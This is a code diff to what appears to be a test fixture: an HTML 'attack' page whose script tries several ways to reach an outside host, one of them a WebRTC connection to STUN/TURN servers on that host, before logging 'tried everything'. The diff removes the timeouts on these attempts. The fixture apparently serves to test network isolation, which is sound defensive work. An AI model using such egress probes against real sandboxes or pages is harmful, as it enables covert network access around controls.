@@ -82,11 +82,11 @@ const ATTACK = `<title>Reach</title><body><script>
       const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:' + host + ':3478', 'turn:' + host + ':3478?transport=udp', 'turn:' + host + ':3478?transport=tcp'], username: 'u', credential: 'c' }] })
       peer.createDataChannel('x')
       await peer.setLocalDescription(await peer.createOffer())
-      await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 3000) })
+      await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve() })
     },
   }
   onload = async () => {
-    for (const way in WAYS) await quietly(Promise.race([WAYS[way](), new Promise((resolve) => setTimeout(resolve, 5000))]))
+    for (const way in WAYS) await quietly(WAYS[way]())
     console.log('tried everything')
   }
 </script>`
